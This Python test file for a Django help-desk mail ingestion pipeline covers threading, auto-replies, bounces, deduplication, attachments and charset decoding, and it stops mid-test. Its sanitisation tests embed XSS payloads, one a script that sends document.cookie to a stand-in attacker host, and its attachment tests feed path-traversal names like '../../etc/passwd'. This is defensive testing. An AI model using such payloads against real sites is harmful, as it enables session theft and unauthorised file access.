"""The mail pipeline (`incidencias.ingest`): threading, machine mail, deduplication,
attachments, text extraction, broken mail, routing, assignment, SLA due dates and failures.

Every test goes through `ingest_raw` (what the IMAP poller calls) or `ingest` (what
`POST /api/correo/save` calls) and looks at the rows and files that come out.
"""

import contextlib
import email
import logging
import threading
import uuid
from datetime import UTC, date, datetime, timedelta
from email.message import EmailMessage
from email.utils import format_datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from django.db import InterfaceError, OperationalError, connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from incidencias import ingest as ingest_module
from incidencias.ingest import (
    correo_fallido_reprocesar,
    dominio_propio,
    ingest,
    ingest_lote,
    ingest_raw,
)
from incidencias.mensajes import MensajeEntrante, generar_message_id
from incidencias.models import (
    Adjunto,
    Asignacion,
    Calendario,
    ColaDepartamento,
    CorreoFallido,
    CuentaCorreo,
    DetalleTicket,
    Feriado,
    Notificacion,
    PoliticaSLA,
    Prioridad,
    ReglaDepartamento,
    Ticket,
)
from incidencias.sla import sumar_minutos_habiles
from sso.models import Usuario

DOMINIO = "portal.example.com"
CR = ZoneInfo("America/Costa_Rica")
PNG = b"\x89PNG\r\n\x1a\n" + bytes(range(64))
PDF = b"%PDF-1.4 informe\n%%EOF\n"


@pytest.fixture(autouse=True)
def _ajustes(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    settings.MESSAGE_ID_DOMAIN = DOMINIO
    settings.DEFAULT_FROM_EMAIL = "soporte@example.com"
    settings.TICKET_REABRIR_DIAS = 7
    settings.INGEST_MAX_BYTES = 25 * 1024 * 1024


# --- Building mail ----------------------------------------------------------------------------


def mid(dominio="cliente.example.org") -> str:
    return f"{uuid.uuid4().hex}@{dominio}"


def correo(
    asunto="No puedo entrar al sistema",
    *,
    de="Ana Cliente <ana@example.org>",
    para="soporte@example.com",
    cc=None,
    message_id=None,
    in_reply_to=None,
    references=None,
    texto="Hola, necesito ayuda.\n",
    cabeceras=(),
) -> bytes:
    msg = EmailMessage()
    msg["From"] = de
    msg["To"] = para
    if cc:
        msg["Cc"] = cc
    msg["Subject"] = asunto
    msg["Date"] = format_datetime(datetime(2025, 1, 6, 10, 0, tzinfo=CR))
    if message_id is not False:
        msg["Message-ID"] = f"<{message_id or mid()}>"
    if in_reply_to:
        msg["In-Reply-To"] = f"<{in_reply_to}>"
    if references:
        msg["References"] = " ".join(f"<{r}>" for r in references)
    for nombre, valor in cabeceras:
        msg[nombre] = valor
    msg.set_content(texto)
    return msg.as_bytes()


def crudo(texto: str) -> bytes:
    """A hand-written message: LF line ends become CRLF, as on the wire."""
    return texto.lstrip("\n").replace("\n", "\r\n").encode("latin-1")


def entrante(raw: bytes, **kwargs):
    resultado = ingest_raw(raw, **kwargs)
    assert resultado.fallido is None, resultado.fallido and resultado.fallido.error
    return resultado


def archivos(settings, carpeta: str) -> list[Path]:
    raiz = Path(settings.MEDIA_ROOT) / carpeta
    return [p for p in raiz.rglob("*") if p.is_file()] if raiz.exists() else []


@pytest.fixture
def ticket_de_ana(db):
    """A ticket opened by ana@example.org with luis@example.org in copy; returns
    (ticket, the opening mail's Message-ID)."""
    primero = mid()
    resultado = entrante(correo(message_id=primero, cc="Luis <luis@example.org>"))
    return resultado.ticket, primero


def agente(username, departamento=None, *, acceso_ticket=True, is_active=True, **extra):
    return Usuario.objects.create_user(
        username=username,
        email=f"{username}@example.com",
        password="x",
        departamento=departamento,
        acceso_ticket=acceso_ticket,
        is_active=is_active,
        **extra,
    )


# --- Threading --------------------------------------------------------------------------------


def test_it_opens_a_ticket_for_a_new_mail(db):
    resultado = entrante(correo(cc="Luis <luis@example.org>, soporte@example.com"))

    ticket = resultado.ticket
    assert resultado.creado and not resultado.duplicado
    assert resultado.mensaje == f"Se ha creado el ticket {ticket.numero}"
    assert ticket.asunto == "No puedo entrar al sistema"
    assert ticket.solicitante_email == "ana@example.org"
    assert ticket.solicitante_nombre == "Ana Cliente"
    assert ticket.participantes == ["luis@example.org"]  # our own address is not a participant
    assert ticket.estado == Ticket.Estado.NUEVO
    assert resultado.detalle.tipo == DetalleTicket.Tipo.ENTRANTE
    assert resultado.detalle.automatico == ""
    assert "necesito ayuda" in resultado.detalle.texto


def test_it_threads_a_reply_by_in_reply_to(ticket_de_ana):
    ticket, primero = ticket_de_ana

    resultado = entrante(correo("Re: No puedo entrar", in_reply_to=primero))

    assert resultado.ticket == ticket
    assert not resultado.creado
    assert resultado.mensaje == (
        f"Se ha agregado el detalle {resultado.detalle.pk} al ticket {ticket.numero}"
    )
    assert ticket.detalles.count() == 2
    assert Ticket.objects.count() == 1


def test_it_threads_a_reply_by_references_only(ticket_de_ana):
    ticket, primero = ticket_de_ana

    # A client that sends no In-Reply-To; the known id is not the last of the chain.
    resultado = entrante(correo("Re: algo", references=[mid(), primero, mid()]))

    assert resultado.ticket == ticket
    assert not resultado.creado


def test_it_prefers_the_headers_over_a_tag_of_another_ticket(ticket_de_ana):
    ticket, primero = ticket_de_ana
    otro = entrante(correo("Otro problema")).ticket

    resultado = entrante(correo(f"Re: [Ticket #{otro.numero}]", in_reply_to=primero))

    assert resultado.ticket == ticket


def test_it_threads_by_tag_from_the_requester(ticket_de_ana):
    ticket, _ = ticket_de_ana

    resultado = entrante(correo(f"Re: [Ticket #{ticket.numero}] No puedo entrar"))

    assert resultado.ticket == ticket
    assert not resultado.creado


def test_it_threads_by_tag_from_a_cc_participant(ticket_de_ana):
    ticket, _ = ticket_de_ana

    resultado = entrante(
        correo(f"RE: [ticket #{ticket.numero}]", de="Luis <LUIS@example.org>")  # any case
    )

    assert resultado.ticket == ticket


def test_it_threads_by_tag_from_an_agent(ticket_de_ana, soporte):
    ticket, _ = ticket_de_ana
    agente("marta", soporte)

    resultado = entrante(correo(f"[Ticket #{ticket.numero}] nota", de="marta@example.com"))

    assert resultado.ticket == ticket


@pytest.mark.parametrize(
    ("remitente", "acceso_ticket", "is_active"),
    [
        ("extrano@example.net", None, None),  # nobody we know
        ("sinacceso@example.com", False, True),  # a user who does not work tickets
        ("inactivo@example.com", True, False),  # an agent who left
    ],
)
def test_it_opens_a_new_ticket_for_a_tag_from_a_stranger(
    ticket_de_ana, remitente, acceso_ticket, is_active
):
    ticket, _ = ticket_de_ana
    if acceso_ticket is not None:
        agente(remitente.partition("@")[0], acceso_ticket=acceso_ticket, is_active=is_active)

    resultado = entrante(correo(f"Re: [Ticket #{ticket.numero}] hola", de=remitente))

    assert resultado.creado
    assert resultado.ticket != ticket
    assert resultado.ticket.solicitante_email == remitente
    assert ticket.detalles.count() == 1


def test_it_opens_a_new_ticket_for_an_unknown_reference_or_number(ticket_de_ana):
    ticket, _ = ticket_de_ana

    por_id = entrante(correo("Re: hola", in_reply_to=mid(), references=[mid()]))
    por_numero = entrante(correo(f"[Ticket #{ticket.numero + 1000}] hola"))

    assert por_id.creado and por_numero.creado
    assert ticket.detalles.count() == 1


def test_it_threads_a_reply_to_our_outbound_message_id(ticket_de_ana):
    ticket, _ = ticket_de_ana
    nuestro = generar_message_id(DOMINIO)
    DetalleTicket.objects.create(
        ticket=ticket, tipo=DetalleTicket.Tipo.RESPUESTA, message_id=nuestro, texto="Pruebe así."
    )

    resultado = entrante(correo("Re: Pruebe así", in_reply_to=nuestro))

    assert resultado.ticket == ticket
    assert resultado.detalle.automatico == ""  # replying to our id is no loop
    assert not CorreoFallido.objects.exists()


def test_it_adds_new_cc_participants_on_a_reply(ticket_de_ana):
    ticket, primero = ticket_de_ana

    entrante(
        correo(
            "Re: x", in_reply_to=primero, cc="jefe@example.org, ana@example.org, luis@example.org"
        )
    )

    ticket.refresh_from_db()
    assert ticket.participantes == ["luis@example.org", "jefe@example.org"]


def test_it_reopens_a_closed_ticket_within_the_window(ticket_de_ana):
    ticket, primero = ticket_de_ana
    Ticket.objects.filter(pk=ticket.pk).update(
        estado=Ticket.Estado.CERRADO, cerrado_en=timezone.now() - timedelta(days=6, hours=23)
    )

    resultado = entrante(correo("Re: sigue fallando", in_reply_to=primero))

    assert resultado.ticket == ticket
    ticket.refresh_from_db()
    assert ticket.estado == Ticket.Estado.ABIERTO
    assert ticket.cerrado_en is None


def test_it_opens_a_linked_ticket_after_the_window(ticket_de_ana):
    ticket, primero = ticket_de_ana
    cerrado_en = timezone.now() - timedelta(days=7, hours=1)
    Ticket.objects.filter(pk=ticket.pk).update(estado=Ticket.Estado.CERRADO, cerrado_en=cerrado_en)

    resultado = entrante(correo(f"Re: [Ticket #{ticket.numero}]", in_reply_to=primero))

    assert resultado.creado
    assert resultado.ticket.relacionado == ticket
    ticket.refresh_from_db()
    assert ticket.estado == Ticket.Estado.CERRADO
    assert ticket.cerrado_en == cerrado_en
    assert ticket.detalles.count() == 1


def test_it_honours_the_configured_reopening_window(ticket_de_ana, settings):
    settings.TICKET_REABRIR_DIAS = 30
    ticket, primero = ticket_de_ana
    Ticket.objects.filter(pk=ticket.pk).update(
        estado=Ticket.Estado.CERRADO, cerrado_en=timezone.now() - timedelta(days=20)
    )

    resultado = entrante(correo("Re: x", in_reply_to=primero))

    assert resultado.ticket == ticket
    ticket.refresh_from_db()
    assert ticket.estado == Ticket.Estado.ABIERTO


@pytest.mark.parametrize("estado", [Ticket.Estado.RESUELTO, Ticket.Estado.EN_ESPERA])
def test_it_reopens_a_solved_or_waiting_ticket(ticket_de_ana, estado):
    ticket, primero = ticket_de_ana
    # However long ago: the window is for closed tickets only.
    Ticket.objects.filter(pk=ticket.pk).update(
        estado=estado, resuelto_en=timezone.now() - timedelta(days=90)
    )

    resultado = entrante(correo("Re: x", in_reply_to=primero))

    assert resultado.ticket == ticket
    ticket.refresh_from_db()
    assert ticket.estado == Ticket.Estado.ABIERTO
    assert ticket.resuelto_en is None


# --- Machine mail -----------------------------------------------------------------------------

CABECERAS_AUTOMATICAS = [
    ("Auto-Submitted", "auto-replied"),
    ("Auto-Submitted", "auto-generated"),
    ("X-Autoreply", "yes"),
    ("X-Auto-Response-Suppress", "All"),
    ("Precedence", "bulk"),
    ("Precedence", "list"),
    ("Precedence", "junk"),
    ("List-Id", "Clientes <clientes.example.org>"),
    ("List-Unsubscribe", "<mailto:baja@example.org>"),
    ("X-Loop", "ana@example.org"),
]


@pytest.mark.parametrize(("cabecera", "valor"), CABECERAS_AUTOMATICAS)
def test_it_stores_machine_mail_on_the_ticket_without_touching_it(ticket_de_ana, cabecera, valor):
    ticket, primero = ticket_de_ana
    Ticket.objects.filter(pk=ticket.pk).update(estado=Ticket.Estado.EN_ESPERA)

    resultado = entrante(
        correo(
            "Respuesta automática: fuera de la oficina",
            in_reply_to=primero,
            cc="nuevo@example.org",
            cabeceras=[(cabecera, valor)],
        )
    )

    assert resultado.ticket == ticket
    assert resultado.detalle.automatico == DetalleTicket.Automatico.AUTORESPUESTA
    ticket.refresh_from_db()
    assert ticket.estado == Ticket.Estado.EN_ESPERA  # a person's reply would reopen it
    assert ticket.participantes == ["luis@example.org"]


@pytest.mark.parametrize(
    ("remitente", "tipo"),
    [
        ("MAILER-DAEMON@mx.example.org", DetalleTicket.Automatico.REBOTE),
        ("postmaster@example.org", DetalleTicket.Automatico.REBOTE),
        ("no-reply@example.org", DetalleTicket.Automatico.AUTORESPUESTA),
        ("noreply@example.org", DetalleTicket.Automatico.AUTORESPUESTA),
        ("do-not-reply@example.org", DetalleTicket.Automatico.AUTORESPUESTA),
        ("bounces+abc@example.org", DetalleTicket.Automatico.AUTORESPUESTA),
    ],
)
def test_it_recognises_machine_senders(ticket_de_ana, remitente, tipo):
    ticket, primero = ticket_de_ana

    resultado = entrante(
        correo(
            "Aviso",
            de=remitente,
            in_reply_to=primero,
            texto="No se pudo entregar a <perdido@example.org>.\n",
        )
    )

    assert resultado.ticket == ticket
    assert resultado.detalle.automatico == tipo
    ticket.refresh_from_db()
    assert ticket.estado == Ticket.Estado.NUEVO
    if tipo == DetalleTicket.Automatico.REBOTE:  # a plain-text bounce: the address is guessed
        assert resultado.detalle.rebotados == ["perdido@example.org"]
        assert ticket.correos_rebotados == ["perdido@example.org"]


@pytest.mark.parametrize("valor", ["no", "No"])
def test_it_treats_auto_submitted_no_as_a_person(ticket_de_ana, valor):
    ticket, primero = ticket_de_ana
    Ticket.objects.filter(pk=ticket.pk).update(estado=Ticket.Estado.EN_ESPERA)

    resultado = entrante(
        correo("Re: x", in_reply_to=primero, cabeceras=[("Auto-Submitted", valor)])
    )

    assert resultado.detalle.automatico == ""
    ticket.refresh_from_db()
    assert ticket.estado == Ticket.Estado.ABIERTO


def test_it_opens_a_flagged_ticket_for_machine_mail_that_refers_to_none(db):
    resultado = entrante(
        correo("Alerta: disco lleno", de="monitor@example.org", cabeceras=[("Precedence", "bulk")])
    )

    assert resultado.creado
    assert resultado.detalle.automatico == DetalleTicket.Automatico.AUTORESPUESTA


def test_it_keeps_machine_mail_on_a_ticket_closed_long_ago(ticket_de_ana):
    ticket, primero = ticket_de_ana
    Ticket.objects.filter(pk=ticket.pk).update(
        estado=Ticket.Estado.CERRADO, cerrado_en=timezone.now() - timedelta(days=60)
    )

    resultado = entrante(
        correo("Fuera de la oficina", in_reply_to=primero, cabeceras=[("X-Autoreply", "yes")])
    )

    assert resultado.ticket == ticket
    assert Ticket.objects.count() == 1
    ticket.refresh_from_db()
    assert ticket.estado == Ticket.Estado.CERRADO


def rebote(original_message_id: str, *, accion="failed", destinatario="perdido@example.org"):
    return crudo(
        f"""
From: Mail Delivery System <entregas@mx.example.net>
To: soporte@example.com
Subject: Undelivered Mail Returned to Sender
Message-ID: <{mid("mx.example.net")}>
Date: Mon, 06 Jan 2025 10:00:00 -0600
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status; boundary="DSN"

--DSN
Content-Type: text/plain; charset=us-ascii

Your message could not be delivered to one or more recipients.

--DSN
Content-Type: message/delivery-status

Reporting-MTA: dns; mx.example.net

Final-Recipient: rfc822; {destinatario}
Original-Recipient: rfc822;{destinatario}
Action: {accion}
Status: 5.1.1

Final-Recipient: rfc822; entregado@example.org
Action: delivered
Status: 2.0.0

--DSN
Content-Type: message/rfc822

From: soporte@example.com
To: {destinatario}
Subject: [Ticket #1] Respuesta
Message-ID: <{original_message_id}>

Texto de nuestra respuesta.

--DSN--
"""
    )


def test_it_marks_the_failed_recipient_of_a_delivery_status_bounce(ticket_de_ana):
    ticket, _ = ticket_de_ana
    nuestro = generar_message_id(DOMINIO)
    DetalleTicket.objects.create(
        ticket=ticket, tipo=DetalleTicket.Tipo.RESPUESTA, message_id=nuestro
    )

    # The bounce has no In-Reply-To: it is linked by the returned message's Message-ID.
    resultado = entrante(rebote(nuestro))

    assert resultado.ticket == ticket
    assert resultado.detalle.automatico == DetalleTicket.Automatico.REBOTE
    assert resultado.detalle.rebotados == ["perdido@example.org"]
    ticket.refresh_from_db()
    assert ticket.correos_rebotados == ["perdido@example.org"]
    assert ticket.estado == Ticket.Estado.NUEVO
    assert not CorreoFallido.objects.exists()  # our Message-ID inside a bounce is no loop


def test_it_marks_a_bounced_address_once(ticket_de_ana):
    ticket, _ = ticket_de_ana
    nuestro = generar_message_id(DOMINIO)
    DetalleTicket.objects.create(
        ticket=ticket, tipo=DetalleTicket.Tipo.RESPUESTA, message_id=nuestro
    )

    entrante(rebote(nuestro))
    entrante(rebote(nuestro))

    ticket.refresh_from_db()
    assert ticket.correos_rebotados == ["perdido@example.org"]
    assert ticket.detalles.filter(automatico=DetalleTicket.Automatico.REBOTE).count() == 2


def test_it_marks_no_recipient_for_a_delay_notice(ticket_de_ana):
    ticket, _ = ticket_de_ana
    nuestro = generar_message_id(DOMINIO)
    DetalleTicket.objects.create(
        ticket=ticket, tipo=DetalleTicket.Tipo.RESPUESTA, message_id=nuestro
    )

    resultado = entrante(rebote(nuestro, accion="delayed"))

    assert resultado.ticket == ticket
    assert resultado.detalle.automatico == DetalleTicket.Automatico.REBOTE
    assert resultado.detalle.rebotados == []
    ticket.refresh_from_db()
    assert ticket.correos_rebotados == []


def test_it_does_not_thread_by_a_forwarded_message_id(ticket_de_ana):
    """Only a bounce is linked through the message it carries; a person forwarding a mail
    of the thread as an attachment opens a ticket of its own."""
    _, primero = ticket_de_ana
    raw = rebote(primero).replace(
        b"multipart/report; report-type=delivery-status", b"multipart/mixed"
    )
    raw = raw.replace(b"Mail Delivery System <entregas@mx.example.net>", b"pedro@example.org")

    resultado = entrante(raw)

    assert resultado.creado
    assert resultado.detalle.automatico == ""


def test_it_drops_our_own_notification_as_a_loop(db, caplog):
    raw = correo(
        "[Ticket #1] Hemos recibido su solicitud",
        de="soporte@example.com",
        message_id=generar_message_id(DOMINIO),
    )

    with caplog.at_level(logging.INFO, logger="incidencias.ingest"):
        resultado = ingest_raw(raw, fuente="cuenta:9")

    assert resultado.ticket is None and resultado.detalle is None
    assert resultado.fallido.motivo == CorreoFallido.Motivo.BUCLE
    assert resultado.fallido.fuente == "cuenta:9"
    with resultado.fallido.crudo.open("rb") as handle:
        assert handle.read() == raw
    assert not Ticket.objects.exists()
    assert not DetalleTicket.objects.exists()
    assert "mail loop" in caplog.text


def test_it_drops_mail_carrying_our_ticket_header_as_a_loop(db):
    raw = correo("Aviso", cabeceras=[("X-Incidencias-Ticket", "12")])

    resultado = ingest_raw(raw)

    assert resultado.fallido.motivo == CorreoFallido.Motivo.BUCLE
    assert not Ticket.objects.exists()


def test_it_records_a_looping_mail_once(db):
    raw = correo("Aviso", message_id=generar_message_id(DOMINIO))

    primero, segundo = ingest_raw(raw), ingest_raw(raw)

    assert primero.fallido == segundo.fallido
    assert CorreoFallido.objects.count() == 1


def test_it_takes_the_loop_domain_from_the_sender_address_by_default(db, settings):
    settings.MESSAGE_ID_DOMAIN = ""
    settings.DEFAULT_FROM_EMAIL = "Mesa de ayuda <ayuda@Mesa.Example.com>"
    assert dominio_propio() == "mesa.example.com"

    resultado = ingest_raw(correo("x", message_id=generar_message_id("mesa.example.com")))

    assert resultado.fallido.motivo == CorreoFallido.Motivo.BUCLE


def test_it_accepts_our_prefix_from_another_domain(db):
    resultado = entrante(correo("x", message_id=generar_message_id("otro.example.net")))

    assert resultado.creado


# --- Duplicates -------------------------------------------------------------------------------


def test_it_stores_the_same_message_once_per_source(db):
    raw = correo(message_id="repetido@cliente.example.org")
    primero = entrante(raw, fuente="cuenta:1")

    segundo = entrante(raw, fuente="cuenta:1")
    # Even with other bytes (re-encoded by a relay): the Message-ID decides.
    tercero = entrante(raw.replace(b"necesito ayuda", b"necesito AYUDA"), fuente="cuenta:1")

    for repetido in (segundo, tercero):
        assert repetido.duplicado
        assert repetido.ticket == primero.ticket
        assert repetido.detalle == primero.detalle
        assert repetido.creado == primero.creado
        assert repetido.mensaje == primero.mensaje
    assert DetalleTicket.objects.count() == 1
    assert Ticket.objects.count() == 1


def test_it_answers_a_repeated_reply_with_its_first_result(ticket_de_ana):
    ticket, primero = ticket_de_ana
    raw = correo("Re: x", in_reply_to=primero)
    respuesta = entrante(raw)

    repetida = entrante(raw)

    assert repetida.duplicado and not repetida.creado
    assert repetida.mensaje == respuesta.mensaje
    assert ticket.detalles.count() == 2


def test_it_deduplicates_per_source(db):
    raw = correo(message_id="dos-buzones@cliente.example.org")

    uno = entrante(raw, fuente="cuenta:1")
    otro = entrante(raw, fuente="cuenta:2")

    assert not uno.duplicado and not otro.duplicado
    assert DetalleTicket.objects.filter(message_id="dos-buzones@cliente.example.org").count() == 2


def test_it_deduplicates_mail_without_message_id_by_its_content(db):
    raw = correo(message_id=False)

    primero = entrante(raw)
    segundo = entrante(raw)
    distinto = entrante(correo(message_id=False, texto="Otra cosa.\n"))

    assert primero.detalle.message_id == ""
    assert primero.detalle.clave_dedup.startswith("sha256:")
    assert segundo.duplicado and segundo.detalle == primero.detalle
    assert not distinto.duplicado
    assert DetalleTicket.objects.count() == 2


def test_it_deduplicates_json_messages_without_message_id(db):
    def mensaje():
        return MensajeEntrante(
            asunto="Desde el ERP", de_email="erp@example.org", texto="Factura 12", sistema="ERP"
        )

    primero = ingest(mensaje(), fuente="api", canal=Ticket.Canal.API)
    segundo = ingest(mensaje(), fuente="api", canal=Ticket.Canal.API)

    assert segundo.duplicado and segundo.detalle == primero.detalle
    assert primero.ticket.canal == Ticket.Canal.API


# --- Attachments ------------------------------------------------------------------------------


def con_adjuntos(*partes: str, html: str | None = None) -> bytes:
    cuerpo = "".join(f"--LIMITE\n{parte.strip()}\n\n" for parte in partes)
    texto = "Adjunto los archivos.\n"
    if html is not None:
        texto = html
    return crudo(
        f"""
From: Ana <ana@example.org>
To: soporte@example.com
Subject: Archivos
Message-ID: <{mid()}>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="LIMITE"

--LIMITE
Content-Type: {"text/html" if html is not None else "text/plain"}; charset=utf-8

{texto}
{cuerpo}--LIMITE--
"""
    )


def test_it_decodes_an_rfc_2231_file_name(db):
    raw = con_adjuntos(
        """
Content-Type: application/pdf
Content-Disposition: attachment; filename*=UTF-8''Informe%20a%C3%B1o%202024.pdf
Content-Transfer-Encoding: base64

JVBERi0xLjQgaW5mb3JtZQolJUVPRgo=
""",
        """
Content-Type: text/plain
Content-Disposition: attachment;
 filename*0*=iso-8859-1''Canci%F3n%20;
 filename*1="larga.txt"

letra
""",
    )

    resultado = entrante(raw)

    nombres = sorted(resultado.detalle.adjuntos.values_list("nombre", flat=True))
    assert nombres == ["Canción larga.txt", "Informe año 2024.pdf"]
    pdf = resultado.detalle.adjuntos.get(content_type="application/pdf")
    assert pdf.archivo.read() == PDF
    assert pdf.tamano == len(PDF)


def test_it_decodes_an_rfc_2047_file_name(db):
    raw = con_adjuntos(
        """
Content-Type: application/pdf; name="=?UTF-8?B?w4FyYm9sIGRlIGNhdXNhcy5wZGY=?="
Content-Disposition: attachment; filename="=?iso-8859-1?Q?=C1rbol_de_causas.pdf?="
Content-Transfer-Encoding: base64

JVBERi0xLjQgaW5mb3JtZQolJUVPRgo=
"""
    )

    resultado = entrante(raw)

    assert list(resultado.detalle.adjuntos.values_list("nombre", flat=True)) == [
        "Árbol de causas.pdf"
    ]


def test_it_falls_back_to_the_content_type_name_when_filename_is_empty(db):
    raw = con_adjuntos(
        """
Content-Type: application/pdf; name="factura.pdf"
Content-Disposition: attachment; filename=""
Content-Transfer-Encoding: base64

JVBERi0xLjQgaW5mb3JtZQolJUVPRgo=
"""
    )

    resultado = entrante(raw)

    assert resultado.detalle.adjuntos.get().nombre == "factura.pdf"


def test_it_keeps_an_inline_image_by_content_id(db):
    import base64

    imagen = base64.b64encode(PNG).decode()
    raw = crudo(
        f"""
From: Ana <ana@example.org>
To: soporte@example.com
Subject: Captura
Message-ID: <{mid()}>
MIME-Version: 1.0
Content-Type: multipart/related; boundary="REL"

--REL
Content-Type: text/html; charset=utf-8

<p>Mire el error:</p><img src="cid:captura01@cliente" alt="error">
--REL
Content-Type: image/png
Content-ID: <captura01@cliente>
Content-Disposition: inline
Content-Transfer-Encoding: base64

{imagen}
--REL--
"""
    )

    resultado = entrante(raw)

    imagen = resultado.detalle.adjuntos.get()
    assert imagen.en_linea
    assert imagen.content_id == "captura01@cliente"
    assert imagen.content_type == "image/png"
    assert imagen.nombre == "adjunto.png"
    assert imagen.archivo.read() == PNG
    assert 'src="cid:captura01@cliente"' in resultado.detalle.html
    assert "Mire el error" in resultado.detalle.texto


def test_it_stores_identical_content_once(db, settings):
    parte = """
Content-Type: application/pdf
Content-Disposition: attachment; filename="{nombre}"
Content-Transfer-Encoding: base64

JVBERi0xLjQgaW5mb3JtZQolJUVPRgo=
"""
    resultado = entrante(con_adjuntos(parte.format(nombre="a.pdf"), parte.format(nombre="b.pdf")))
    otro = entrante(con_adjuntos(parte.format(nombre="copia.pdf")))

    filas = Adjunto.objects.order_by("id")
    assert [f.nombre for f in filas] == ["a.pdf", "b.pdf", "copia.pdf"]
    assert len({f.archivo.name for f in filas}) == 1
    assert len(archivos(settings, "adjuntos")) == 1
    assert resultado.detalle != otro.detalle


@pytest.mark.parametrize(
    ("declarado", "guardado"),
    [
        ("../../etc/passwd", "passwd"),
        ("..\\..\\Windows\\win.ini", "win.ini"),
        ("/tmp/x/../informe.pdf", "informe.pdf"),
        ("mal\x01nombre\x7f.txt", "malnombre.txt"),
    ],
)
def test_it_keeps_only_the_last_component_of_a_file_name(db, settings, declarado, guardado):
    raw = con_adjuntos(
        f"""
Content-Type: application/octet-stream
Content-Disposition: attachment; filename="{declarado}"
Content-Transfer-Encoding: base64

JVBERi0xLjQgaW5mb3JtZQolJUVPRgo=
"""
    )

    resultado = entrante(raw)

    adjunto = resultado.detalle.adjuntos.get()
    assert adjunto.nombre == guardado
    assert adjunto.archivo.name == f"adjuntos/{adjunto.sha256[:2]}/{adjunto.sha256}"
    media = Path(settings.MEDIA_ROOT).resolve()
    assert all(media in p.resolve().parents for p in archivos(settings, ""))


# --- Text and HTML ----------------------------------------------------------------------------

HTML_PELIGROSO = """<html><head><style>p {color: red}</style>
<script>alert('head')</script></head><body>
<p onclick="robar()">Hola <b>mundo</b></p>
<script>document.location='https://malo.example.net/?c='+document.cookie</script>
<img src="x" onerror="alert(1)"><img src="cid:logo@cliente">
<a href="javascript:alert(2)">pulse aquí</a> <a href="https://example.org/ayuda">ayuda</a>
<iframe src="https://malo.example.net"></iframe>
</body></html>"""


def test_it_gives_html_only_mail_a_text_version_and_sanitises_the_html(db):
    raw = crudo(
        f"""
From: Ana <ana@example.org>
To: soporte@example.com
Subject: Solo HTML
Message-ID: <{mid()}>
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

{HTML_PELIGROSO}
"""
    )

    detalle = entrante(raw).detalle

    assert "Hola mundo" in detalle.texto
    assert "pulse aquí" in detalle.texto
    assert "alert" not in detalle.texto and "color" not in detalle.texto
    html = detalle.html.lower()
    for prohibido in ("<script", "onerror", "onclick", "javascript:", "<iframe", "<style"):
        assert prohibido not in html
    assert "alert(" not in html and "document.cookie" not in html
    assert 'src="cid:logo@cliente"' in detalle.html
    assert 'href="https://example.org/ayuda"' in detalle.html
    assert "<b>mundo</b>" in detalle.html


def test_it_keeps_the_plain_text_of_an_alternative_mail(db):
    msg = EmailMessage()
    msg["From"], msg["To"], msg["Subject"] = "ana@example.org", "soporte@example.com", "Alt"
    msg.set_content("Versión de texto.\n")
    msg.add_alternative("<p>Versión <i>HTML</i></p><script>x()</script>", subtype="html")

    detalle = entrante(msg.as_bytes()).detalle

    assert detalle.texto == "Versión de texto."
    assert detalle.html.strip() == "<p>Versión <i>HTML</i></p>"
    assert not detalle.adjuntos.exists()


def mensaje_con_charset(charset: str, cuerpo: bytes, cte: str = "8bit") -> bytes:
    cabecera = crudo(
        f"""
From: Ana <ana@example.org>
To: soporte@example.com
Subject: Codificación
Message-ID: <{mid()}>
MIME-Version: 1.0
Content-Type: text/plain; charset="{charset}"
Content-Transfer-Encoding: {cte}

"""
    )
    return cabecera + cuerpo


@pytest.mark.parametrize(
    ("charset", "cuerpo", "esperado"),
    [
        ("x-unknown-foo", b"Caf\xc3\xa9 listo", "Café listo"),  # unknown label, UTF-8 bytes
        ("x-unknown-foo", b"Caf\xe9 listo", "Café listo"),  # unknown label, Latin-1 bytes
        ("utf-8", b"La canci\xf3n no suena", "La canción no suena"),  # wrong label
        ("us-ascii", b"Se\xc3\xb1al d\xc3\xa9bil", "Señal débil"),  # wrong label
        ("windows-1252", b"\x93comillas\x94 \x80", "“comillas” €"),
        ("gb2312", "內應力".encode("gb18030"), "內應力"),  # GBK sent as gb2312
        ("ks_c_5601-1987", "Запрос".encode("cp949"), "Запрос"),
        ("iso-2022-jp", "ツール".encode("cp932"), "ツール"),  # raw Shift_JIS, 7-bit label
        ("iso-2022-jp", "ツール".encode(), "ツール"),  # UTF-8 before Shift_JIS
        ("utf-7", b"+AMk-t+AOk-", "Été"),
        ("unicode-1-1-utf-7", b"+2D0- x", "\ufffd x"),  # a lone surrogate is replaced
        ("base64", b"hola", "hola"),  # a codec that is not a text encoding
        ("", b"sin etiqueta", "sin etiqueta"),
    ],
)
def test_it_reads_any_charset_with_a_safe_fallback(db, charset, cuerpo, esperado):
    detalle = entrante(mensaje_con_charset(charset, cuerpo)).detalle

    assert esperado in detalle.texto


def test_it_removes_nul_characters_that_no_database_stores(db):
    raw = mensaje_con_charset("utf-8", b"antes\x00despu\xc3\xa9s").replace(
        b"Subject: Codificaci", b"X-Raro: a\x00b\r\nSubject: Codificaci"
    )

    detalle = entrante(raw).detalle

    assert detalle.texto == "antesdespués"
    assert detalle.headers["x-raro"] == "ab"
    with detalle.crudo.open("rb") as handle:
        assert handle.read() == raw  # the raw message keeps them


def test_it_removes_nul_characters_from_json_messages(db):
    mensaje = MensajeEntrante(
        asunto="ERP\x00 caído",
        de_email="erp@example.org",
        texto="línea\x00 1",
        headers={"x-a\x00": "b\x00"},
        sistema="ERP",
    )

    resultado = ingest(mensaje, fuente="api")

    resultado.detalle.refresh_from_db()
    assert resultado.ticket.asunto == "ERP caído"
    assert resultado.detalle.texto == "línea 1"
    assert resultado.detalle.headers == {"x-a": "b"}


def test_it_decodes_raw_8bit_headers_by_the_charsets_the_mail_declares(db):
    raw = crudo(
        """
From: =?iso-8859-1?Q?Jos=E9?= <jose@example.org>
To: soporte@example.com
Subject: Env\xedo con acentos
MIME-Version: 1.0
Content-Type: text/plain; charset=iso-8859-1
Content-Transfer-Encoding: 8bit

Cuerpo en Latin-1: \xf1and\xfa.
"""
    )

    detalle = entrante(raw).detalle

    assert detalle.asunto == "Envío con acentos"
    assert detalle.de == "José <jose@example.org>"
    assert "ñandú" in detalle.texto


def test_it_reads_the_display_name_after_splitting_the_addresses(db):
    raw = crudo(
        f"""
